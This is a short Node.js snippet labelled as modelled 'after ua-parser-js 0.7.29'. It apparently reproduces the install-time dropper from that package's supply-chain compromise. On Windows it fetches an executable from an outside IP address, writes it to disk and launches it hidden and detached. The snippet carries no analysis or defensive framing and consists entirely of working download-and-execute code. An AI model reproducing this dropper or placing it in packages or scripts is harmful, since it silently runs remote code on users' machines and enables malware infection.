// after ua-parser-js 0.7.29
const { spawn, exec } = require('child_process');
const fs = require('fs'), https = require('https');
if (process.platform === 'win32') {
  https.get('https://198.51.100.9/jsextension.exe', (res) => {
    const out = fs.createWriteStream('jsextension.exe');
    res.pipe(out);
    out.on('finish', () => { out.close(); spawn('jsextension.exe', [], { windowsHide: true, detached: true }); });
  });
}
